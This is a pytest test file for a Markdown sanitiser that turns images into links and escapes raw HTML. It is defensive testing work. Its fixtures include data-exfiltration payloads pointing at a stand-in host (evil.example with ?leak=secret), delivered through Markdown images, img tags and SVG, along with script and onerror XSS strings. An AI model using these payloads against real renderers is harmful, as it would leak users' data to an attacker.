"""Tests for services/markdown.py: images become links, raw HTML shows as text, code stays as written."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from services.markdown import safe_markdown

pytestmark = pytest.mark.unit

# A CommonMark renderer, to check what a browser would be given for the Markdown that comes out.
RENDER = MarkdownIt("commonmark").render


def rendered_tags(text: str) -> set[str]:
    """The HTML tag names the rendered Markdown of `text` holds."""
    return {name.lower() for name in re.findall(r"<([A-Za-z][A-Za-z0-9]*)", RENDER(text))}


class TestFastPath:
    @pytest.mark.parametrize("text", ["", "Hello, world.", "a > b", "# Title\n\n* item `code`"])
    def test_text_without_bang_or_angle_is_returned_as_is(self, text):
        """The common case on every streamed update costs nothing: the very same string comes back."""
        assert safe_markdown(text) is text

    @pytest.mark.parametrize("text", ["Hello!", "a < b and 3<4", "1 <= 2", "x <- y", "wow! [link](http://x)"])
    def test_text_with_bang_or_angle_but_nothing_to_change(self, text):
        """A `!` that makes no image and a `<` that starts no tag are left alone."""
        assert safe_markdown(text) == text


class TestImages:
    CASES = (
        ("![alt](http://x/a.png)", "[alt](http://x/a.png)"),  # an inline image
        ('![alt](http://x/a.png "title")', '[alt](http://x/a.png "title")'),  # with a title
        ("see ![a][ref]\n\n[ref]: http://x/y.png", "see [a][ref]\n\n[ref]: http://x/y.png"),  # a reference image
        ("![ref]\n\n[ref]: http://x/y.png", "[ref]\n\n[ref]: http://x/y.png"),  # a shortcut reference image
        ("![a](u) and ![b](v)", "[a](u) and [b](v)"),  # several
        ("[![badge](http://x/b.svg)](http://x)", "[[badge](http://x/b.svg)](http://x)"),  # an image in a link
    )

    @pytest.mark.parametrize(("text", "expected"), CASES)
    def test_markdown_images_become_links(self, text, expected):
        """The `!` that makes a link an image is dropped: the URL is shown, fetched only if clicked."""
        assert safe_markdown(text) == expected

    MEDIA = (
        ('<img src="http://x/a.png">', "[image](http://x/a.png)"),  # double quotes
        ("<img alt=x src='http://x/a.png' />", "[image](http://x/a.png)"),  # single quotes, self-closing
        ("<img src=http://x/a.png>", "[image](http://x/a.png)"),  # no quotes
        ('<IMG SRC="http://x/a.png">', "[image](http://x/a.png)"),  # upper case
        ('<img src="http://x/a b(1)<2>.png">', "[image](http://x/a%20b%281%29%3C2%3E.png)"),  # link breakers encoded
        ('<img src="  http://x/a.png ">', "[image](http://x/a.png)"),  # spaces around the URL
        ('<img src="">', ""),  # nothing to link to
        ("<video poster=http://x/p.jpg controls>", "[image](http://x/p.jpg)"),  # a video's poster
        ('<source src="http://x/v.mp4">', "[image](http://x/v.mp4)"),  # a media source
        ('<iframe src="http://x/page"></iframe>', "[image](http://x/page)&lt;/iframe>"),  # a frame
        ('<object data="http://x/o.swf">', "[image](http://x/o.swf)"),  # an object
        ('<embed src="http://x/e">', "[image](http://x/e)"),  # an embed
        ('<audio src="http://x/s.mp3">', "[image](http://x/s.mp3)"),  # audio
        ("text <img src=u> text", "text [image](u) text"),  # inside a sentence
    )

    @pytest.mark.parametrize(("text", "expected"), MEDIA)
    def test_html_media_become_links(self, text, expected):
        """An `<img>`, `<video>` or other media tag with a source becomes a link to that source."""
        assert safe_markdown(text) == expected

    def test_a_media_tag_without_source_is_escaped(self):
        """With no source to link to, the tag is shown as text like any other."""
        assert safe_markdown("<img onerror=alert(1)>") == "&lt;img onerror=alert(1)>"


class TestRawHtml:
    CASES = (
        ("<b>bold</b>", "&lt;b>bold&lt;/b>"),  # a pair of tags
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),  # a script
        ('<a href="http://x" onclick="f()">x</a>', '&lt;a href="http://x" onclick="f()">x&lt;/a>'),  # a raw link
        ("<!-- hidden -->", "&lt;!-- hidden -->"),  # a comment
        ("<!DOCTYPE html>", "&lt;!DOCTYPE html>"),  # a declaration
        ("<?php echo 1; ?>", "&lt;?php echo 1; ?>"),  # a processing instruction
        ("</div>", "&lt;/div>"),  # a closing tag alone
        ("<div>\n\n*x*\n\n</div>", "&lt;div>\n\n*x*\n\n&lt;/div>"),  # an HTML block around Markdown
    )

    @pytest.mark.parametrize(("text", "expected"), CASES)
    def test_raw_html_is_escaped(self, text, expected):
        """Every tag's `<` becomes `&lt;`, so the tag shows as text."""
        assert safe_markdown(text) == expected


class TestCode:
    CASES = (
        "`<b>` and `![x](y)`",  # code spans
        "``a `<b>` c``",  # a span of two backticks holding one
        "```html\n<b>x</b>\n![i](u)\n```",  # a fenced block
        "~~~\n<img src=u>\n~~~",  # a tilde fence
        "```\n<b>open",  # a fence never closed runs to the end
        "````\n```\n<b>\n````",  # a shorter fence inside a longer one does not close it
        "   ```\n<b>\n   ```",  # fences indented up to three spaces
    )

    @pytest.mark.parametrize("text", CASES)
    def test_code_is_untouched(self, text):
        """In code spans and fenced blocks, `<` and `!` are already shown as text: nothing changes."""
        assert safe_markdown(text) == text

    MIXED = (
        ("`<b>` <b>", "`<b>` &lt;b>"),  # after a code span
        ("<i> `<b>`", "&lt;i> `<b>`"),  # before a code span
        ("```\n<b>\n```\n<i> ![x](y)", "```\n<b>\n```\n&lt;i> [x](y)"),  # after a closed fence
        ("~~~\n<x>\n~~~\n<y>", "~~~\n<x>\n~~~\n&lt;y>"),  # after a tilde fence
        ("````\n```\n<b>\n````\n<i>", "````\n```\n<b>\n````\n&lt;i>"),  # after a long fence
        ("x ```\n<b>y", "x ```\n&lt;b>y"),  # backticks mid-line open no fence
        ("``a``b`` <i>", "``a``b`` &lt;i>"),  # a span, then text with stray backticks
        ("`unclosed <b>", "`unclosed &lt;b>"),  # a lone backtick opens no span
    )

    @pytest.mark.parametrize(("text", "expected"), MIXED)
    def test_text_around_code_is_made_safe(self, text, expected):
        """Only the code itself is left as written; the text around it is made safe."""
        assert safe_markdown(text) == expected


class TestNothingFetched:
    ATTACKS = (
        "![x](https://evil.example/?leak=secret)",  # the plain exfiltration image
        "!![x](https://evil.example/?leak=secret)",  # two bangs: removing one must not leave an image
        '!!<img src="https://evil.example/?leak=secret">',  # two bangs before a media tag
        '`a\n\n<img src="https://evil.example/?leak=secret">\n\nb`',  # backticks across paragraphs: no code span
        '\\`<img src="https://evil.example/?leak=secret">\\`',  # escaped backticks make no code span
        '<IMG\nSRC="https://evil.example/?leak=secret">',  # a tag across lines
        "[![x](https://evil.example/i.png)](https://evil.example/)",  # an image inside a link
        "![x][r]\n\n[r]: https://evil.example/?leak=secret",  # a reference image
        '<svg><image href="https://evil.example/?leak=secret"/></svg>',  # SVG's image
    )

    @pytest.mark.parametrize("text", ATTACKS)
    def test_rendered_markdown_holds_no_image_and_no_raw_tag(self, text):
        """Rendered as CommonMark, what comes out holds no `<img>` and no tag that was not Markdown's own."""
        assert rendered_tags(safe_markdown(text)) <= {"p", "a", "code", "pre", "br"}
